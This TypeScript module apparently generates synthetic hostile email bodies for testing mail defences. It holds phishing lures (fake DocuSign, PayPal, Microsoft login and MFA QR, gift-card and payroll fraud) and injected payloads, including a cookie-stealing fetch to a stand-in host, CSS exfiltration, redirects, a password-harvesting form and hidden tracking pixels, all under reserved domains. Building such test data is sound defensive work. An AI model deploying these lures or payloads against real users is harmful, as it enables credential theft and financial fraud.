import { Buffer } from 'node:buffer';
import { anchor, escapeHtml as e } from './html';
import type { BodyInput } from './body-input';
import { qrPicture } from './picture';
import type { Random } from './random';

const pixel = (input: BodyInput, random: Random): string =>
  `<img src="http://px.${e(input.row.from_domain)}/o/${random.hex(20)}.gif?to=${encodeURIComponent(input.recipient)}" width="1" height="1" style="display:none">`;

/** Text that filters see and readers don't: broken words, white on white. */
const padding = (random: Random): string =>
  `<div style="display:none;font-size:0;color:#fff">${Array.from({ length: random.int(6, 20) }, () => random.pick(['quarterly', 'garden', 'lantern', 'rehearsal', 'granite', 'orchard', 'meridian'])).join(' ')}</div>`;

/** Active content of real hostile email, which a mail frame has to make inert. */
const script = (input: BodyInput, random: Random): string =>
  random.weighted([
    ['', 5],
    [
      `<script>document.location="https://rnicrosoft-login.test/?e=${encodeURIComponent(input.recipient)}"</script>`,
      2,
    ],
    [
      `<img src="x:broken" onerror="fetch('https://collect.invalid/c?d='+document.cookie)" width="0" height="0">`,
      2,
    ],
    [`<iframe src="https://rnicrosoft-login.test/frame" width="1" height="1"></iframe>`, 1],
    [`<meta http-equiv="refresh" content="3;url=https://rnicrosoft-login.test/r/${random.hex(6)}">`, 1],
    [`<object data="https://collect.invalid/o.swf"></object><base href="https://collect.invalid/">`, 1],
    [
      `<style>@import url("https://collect.invalid/f.css");input[value^="a"]{background:url(https://collect.invalid/a)}</style>`,
      1,
    ],
    [
      `<svg onload="alert(document.domain)"><a xlink:href="javascript:alert(1)"><text y="10">.</text></a></svg>`,
      1,
    ],
  ]);

const button = (input: BodyInput, colour: string): string =>
  input.links
    .slice(0, 1)
    .map((link) =>
      anchor(
        link,
        `display:inline-block;background:${colour};color:#fff;padding:14px 28px;text-decoration:none;font-weight:600`,
      ),
    )
    .join('');

const frame = (input: BodyInput, random: Random, body: string): string =>
  `${padding(random)}${body}${pixel(input, random)}${script(input, random)}`;

const docusign = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<style>.ds{background:#1e4ca1;background-image:url(https://cdn.docusign-review.test/bg.png);color:#fff;text-align:center;padding:36px}td{font-family:Helvetica,Arial,sans-serif}</style>
<table width="640" align="center" style="border:1px solid #eaeaea"><tr><td><img src="https://cdn.docusign-review.test/logo.png" height="24" alt="DocuSign"></td></tr>
<tr><td class="ds"><p>${e(input.row.from_name)} sent you a document to review and sign.</p>${button(input, '#ffc423')}</td></tr>
<tr><td style="padding:24px;font-size:14px">${e(input.recipient)},<br><br>Please DocuSign: ${e(input.row.subject)}. This envelope expires in ${random.int(2, 24)} hours.<br><br>
<b>Do Not Share This Email</b><br>Security code: ${random.hex(8).toUpperCase()}${input.attachments.length > 0 ? '<br>Open the attached copy if the button does not work.' : ''}</td></tr></table>`,
  );

const paypal = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:PayPalSans,Helvetica,Arial;max-width:600px;margin:auto;background:#fff url('https://img.paypa1-billing.test/top.png') no-repeat top">
<h1 style="color:#003087;font-weight:400;padding-top:48px">Here&#39;s your invoice</h1><p>${e(input.row.from_name)} sent you an invoice for <b>$${random.int(299, 999)}.99 USD</b></p>
<p style="background:#f5f7fa;padding:12px"><b>Seller note to customer:</b> You have been charged for Crypto Wallet Pro. If you did not authorise this, call our fraud desk at
+1&#8288; (888)&#8288; 555&#8288;-01${random.int(10, 99)} within 24 hours.</p>${button(input, '#0070ba')}<p style="font-size:12px;color:#687173">Invoice #${random.hex(6).toUpperCase()}</p></div>`,
  );

const callback = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Arial"><p>Dear ${e(input.firstName)},</p><p>Your ${random.pick(['Home Shield', 'PC Protect Plus', 'Total Guard 360'])} plan renews today for
<b>$${random.int(199, 649)}.99</b>. The amount is shown in your calendar.</p><p>To cancel or claim a refund, call <b>+1 (888) 555-01${random.int(10, 99)}</b> (toll free, 24/7).</p>
<p>Order: ${random.hex(8).toUpperCase()}</p>${input.links.map((link) => anchor(link)).join('')}<p>Billing team</p></div>`,
  );

const qrCode = (input: BodyInput, random: Random): string => {
  const picture = Buffer.from(
    qrPicture(input.attachments.find((one) => one.kind === 'qr')?.variant ?? random.int(0, 11)),
  ).toString('base64');
  return frame(
    input,
    random,
    `<div style="width:480px;margin:auto;font-family:Segoe UI,sans-serif;text-align:center"><img src="https://logo.contoso.example/m.png" width="108" alt="Microsoft">
<h2>Authenticator set-up required</h2><p>Your multi-factor registration expires on ${e(input.date.slice(0, 16))}. Scan the code with your phone&#39;s camera to keep access to <b>${e(input.recipient)}</b>.</p>
<img src="data:image/png;base64,${picture}" width="164" height="164" alt=""><p style="font-size:11px;color:#888">This message was sent by the IT service desk.</p></div>`,
  );
};

const voicemail = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<table style="font-family:Segoe UI;border-left:6px solid #5b2d90" width="560"><tr><td style="padding:20px"><h3>&#128222; New voice message</h3>
<p>From: +1 555 01${random.int(10, 99)}<br>To: ${e(input.recipient)}<br>Length: 0${random.int(0, 2)}:${random.int(10, 59)}<br>Received: ${e(input.date)}</p>
<p>The recording is in the attached <b>${e(input.attachments[0]?.name ?? 'message')}</b>. It is deleted after 48 hours.</p>${button(input, '#5b2d90')}</td></tr></table>`,
  );

const svgLure = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Arial"><p>Good day ${e(input.firstName)},</p><p>A remittance advice is attached as a secured image (<b>${e(input.attachments[0]?.name ?? 'Document.svg')}</b>). Open it in your browser to view the payment.</p>
<p>Accounts payable<br>${e(input.row.from_name)}</p></div>`,
  );

const redirect = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Segoe UI"><p>Your mailbox <b>${e(input.recipient)}</b> has ${random.int(3, 14)} messages held by the server.</p>
<p>Release them here: ${input.links.map((link) => anchor(link)).join('')}</p><p style="color:#666;font-size:12px">Mail administrator, ${e(input.recipient.split('@')[1] ?? '')}</p></div>`,
  );

const freemail = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div dir="ltr">Hello ${e(input.firstName)},<br><br>I got your contact from a colleague. We want to order ${random.int(40, 400)} units and need your account details for the transfer today.
Please answer to my private address, as the office mail is being moved.<br><br>${e(input.row.from_name)}<br>${e(input.row.reply_to_email ?? 'private.office@freemail.example')}</div>`,
  );

const compensation = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Calibri;border-top:8px solid #00695c;padding:20px;background:#fafafa url(https://hr-portal.adobe-sign.example/pattern.png)"><h2 style="color:#00695c">Human Resources</h2>
<p>${e(input.firstName)}, the salary and compensation review for this year is complete. Employees must acknowledge the attached statement before ${random.pick(['Friday', 'end of day', '5 PM today'])}.</p>
${button(input, '#00695c')}${input.locked === undefined ? '' : `<p>Document password: <b>${input.locked}</b></p>`}<p style="font-size:11px">Confidential. Do not forward.</p></div>`,
  );

const mobile = (input: BodyInput, random: Random): string =>
  `<div dir="auto">${random.pick([
    `${e(input.firstName)}, are you at your desk? I am in a meeting and cannot talk. Send me your mobile number, I need a task done quickly.`,
    `Hi ${e(input.firstName)}, do you have a minute? I need gift cards for the partners, ${random.int(4, 20)} x $100. Keep it a surprise.`,
    `Can you change my bank details for this month&#39;s salary? I will send the new account once you confirm.`,
  ])}</div><div dir="auto"><br></div><div dir="auto">${e(input.row.from_name)}</div><div style="font-size:small;color:#888">Sent from my iPhone</div>`;

/** The page that a look-alike mail imitates, by a word of its subject: its title, its request and its host. */
const PRETEXTS: readonly (readonly [about: RegExp, title: string, ask: string, host: string])[] = [
  [
    /payment/i,
    'Payment declined',
    'We could not charge your card. Sign in to update it.',
    'netflix-renew.example',
  ],
  [
    /parcel/i,
    'Your parcel is waiting',
    'A fee of 1.99 is due before delivery. Sign in to pay it.',
    'dhl-parcel-fee.test',
  ],
  [/full/i, 'Mailbox is full', 'New mail is refused. Sign in to add storage.', 'rnicrosoft-login.test'],
  [
    /delivered/i,
    'Messages on hold',
    'They wait on the server. Sign in to release them.',
    'rnicrosoft-login.test',
  ],
  [
    /locked/i,
    'Account locked',
    'We saw unusual activity. Sign in to unlock your account.',
    'rnicrosoft-login.test',
  ],
  [/./, 'Password expires today', 'Sign in to keep your current password.', 'rnicrosoft-login.test'],
];

const findPretext = (subject: string): (typeof PRETEXTS)[number] => {
  const found = PRETEXTS.find(([about]) => about.test(subject)) ?? PRETEXTS.at(-1);
  if (!found) throw new Error('There is no pretext');
  return found;
};

const credentials = (input: BodyInput, random: Random): string => {
  const [, title, ask, host] = findPretext(input.row.subject);
  return frame(
    input,
    random,
    `<style>#f{width:340px;margin:auto;font-family:Segoe UI}#f input{width:100%;padding:8px;border:0;border-bottom:1px solid #666}</style>
<div id="f"><img src="https://cdn.${host}/logo.svg" width="108"><h3>${title}</h3><p>${e(input.recipient)}</p><p>${ask}</p>
<form action="https://${host}/collect" method="post" onsubmit="this.t.value=Date.now()"><input name="p" type="password" placeholder="Current password"><input type="hidden" name="t"><button style="background:#0067b8;color:#fff">Sign in</button></form>
<p onclick="window.open('https://${host}/help')">Can&#39;t access your account?</p>${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}</div>`,
  );
};

/** Returns the sentence of a mail with malware about its attachment. */
const findCargo = (subject: string): string => {
  if (/label/i.test(subject)) return 'Your parcel could not be delivered. Print the label in the attachment.';
  if (/order/i.test(subject)) return 'See the updated purchase order. Enable content to view it.';
  return 'Please check the overdue invoice attached and settle it today.';
};

const malware = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Arial"><p>${random.pick(['Dear customer', `Dear ${e(input.firstName)}`])},</p><p>${findCargo(input.row.subject)}</p>
${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}<p>${e(input.row.from_name)}</p></div>`,
  );

const transaction = (input: BodyInput, random: Random): string =>
  frame(
    input,
    random,
    `<div style="font-family:Calibri"><p>${e(input.firstName)},</p><p>the transaction of <b>EUR ${random.int(18, 96)},${random.int(100, 999)}.00</b> has been sent to the new account as agreed. Please release it in the banking portal before noon and do not call, I am boarding.</p>
${input.links.map((link) => `<p>${anchor(link)}</p>`).join('')}<p>${e(input.row.from_name)}</p></div>`,
  );

/** The bodies of hostile emails by style. Every address in them is under a reserved name. */
export const hostileBodies = {
  docusign_impersonation: docusign,
  paypal_invoice: paypal,
  callback_calendar: callback,
  qr_lure: qrCode,
  voicemail_pdf: voicemail,
  svg_script: svgLure,
  open_redirect: redirect,
  freemail_reply_to: freemail,
  hr_comp_review: compensation,
  bec_mobile: mobile,
  credential_lookalike: credentials,
  malware_attachment: malware,
  takeover_transaction: transaction,
} as const;
